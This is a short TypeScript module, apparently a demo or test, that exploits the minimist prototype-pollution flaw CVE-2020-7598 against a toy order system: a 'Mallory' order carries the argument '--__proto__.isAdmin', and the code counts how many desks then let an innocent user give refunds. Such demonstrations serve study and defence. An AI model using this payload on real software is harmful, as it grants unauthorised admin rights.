import type { OrderDesk } from './sender.ts'

/**
 * CVE-2020-7598: minimist before 1.2.2 sets what it reads on Object.prototype, for one who asks so. From then on everything in
 * that isolate is an admin that does not say otherwise; main and the other isolates have prototypes of their own.
 */
const line = ['--pieces', '1', '--__proto__.isAdmin']

/** Sends one attack to each desk. @returns on how many of them an innocent may give refunds afterwards. */
export async function attack(desks: readonly OrderDesk[], number: number): Promise<number> {
  const receipts = await Promise.all(
    desks.map(async (desk) => {
      await desk.order({ sender: 'Mallory', number, line })
      return desk.order({ sender: 'Bob', number, line: ['--pieces', '1'] })
    }),
  )
  return receipts.filter(({ mayRefund }) => mayRefund).length
}
